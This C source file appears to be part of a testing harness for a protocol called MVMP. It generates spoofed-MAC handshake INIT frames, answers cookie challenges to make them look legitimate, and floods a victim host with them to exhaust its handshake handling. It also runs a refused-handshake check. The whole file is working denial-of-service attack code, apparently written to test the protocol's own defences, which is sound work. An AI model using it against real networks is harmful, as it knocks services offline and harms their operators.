/* SPDX-License-Identifier: Apache-2.0 */
#include "command.h"
#include "contact.h"
#include <err.h>
#include <stdlib.h>
#include <string.h>

/*
 * INITs of a thief of the cluster key who copied a certificate but has not its secret: they pass
 * every check that is possible before public-key work and are never confirmed.
 */

enum { POOL = 20000 };

struct init {
	uint8_t mac[MVMP_MAC_LEN];
	uint8_t frame[THIEF_INIT_LEN];
};

static struct init *make_pool(struct attack *attack, unsigned count)
{
	struct init *pool = calloc(count, sizeof *pool);
	uint8_t instance[MVMP_ID_LEN];
	struct thief_shake shake;

	if (!pool)
		err(1, "no memory");
	attack_learn_instance(attack, instance);
	for (unsigned i = 0; i < count; i++) {
		thief_init(&attack->thief, &shake, instance, 0, true);
		attack_source(attack, pool[i].mac, i);
		memcpy(pool[i].frame, shake.frame, sizeof shake.frame);
	}
	return pool;
}

static void send_init(struct attack *attack, const struct init *init)
{
	wire_send(&attack->wire, attack->victim, init->mac, MVMP_ETHERTYPE_CONTROL, init->frame,
		sizeof init->frame);
}

static struct init *find_init(struct init *pool, unsigned count, const uint8_t *mac)
{
	for (unsigned i = 0; i < count; i++) {
		if (!memcmp(pool[i].mac, mac, MVMP_MAC_LEN))
			return &pool[i];
	}
	return NULL;
}

/* Who can receive at its MACs proves each of them: the cookie that a COOKIE brought holds for all
 * INITs of that MAC. Returns how many are proven. */
static unsigned prove(struct attack *attack, struct init *pool, unsigned count)
{
	unsigned proven = 0;

	for (unsigned round = 0; round < 5 && proven < count; round++) {
		uint64_t until;
		struct wire_frame frame;

		for (unsigned i = 0; i < count; i++)
			send_init(attack, &pool[i]);
		wire_flush(&attack->wire);
		until = wire_now() + 200 * MVMP_NS_PER_MS;
		while (wire_receive(&attack->wire, &frame, until)) {
			struct init *init = find_init(pool, count, frame.dst);
			uint8_t body[MVMP_COOKIE_SECRET_LEN], zero[MVMP_MAC_FIELD_LEN] = {0};

			if (!init ||
				!thief_open_cookie(&attack->thief, init->frame, frame.bytes,
					frame.len, body) ||
				body[0])
				continue;
			proven += !memcmp(init->frame + THIEF_COOKIE_AT, zero, sizeof zero);
			thief_prove(init->frame, body + 16);
		}
	}
	return proven;
}

int attack_inits(struct attack *attack)
{
	bool proven = attack->argc && !strcmp(attack->argv[0], "proven");
	unsigned count = proven ? attack->macs : POOL;
	struct init *pool;
	uint64_t begin;

	if (!proven && attack->frames && attack->frames < POOL)
		count = (unsigned)attack->frames;
	pool = make_pool(attack, count);
	if (proven)
		printf("proven %u\n", prove(attack, pool, count));
	puts("begin");
	begin = wire_now();
	attack->wire.started = attack->wire.count = 0;
	for (uint64_t n = 0; attack_goes_on(attack, begin, n); n++)
		send_init(attack, &pool[n % count]);
	attack_report(attack);
	free(pool);
	return 0;
}

/* A handshake with all that the directory has. */
int attack_refused(struct attack *attack)
{
	struct contact contact = {.wire = &attack->wire, .thief = &attack->thief};
	int refusal;

	attack_learn_instance(attack, contact.instance);
	memcpy(contact.src, attack->src, MVMP_MAC_LEN);
	memcpy(contact.dst, attack->victim, MVMP_MAC_LEN);
	refusal = contact_open(&contact, 2000);
	contact_drop(&contact);
	printf("refusal %d\n", refusal);
	attack_report(attack);
	return 0;
}
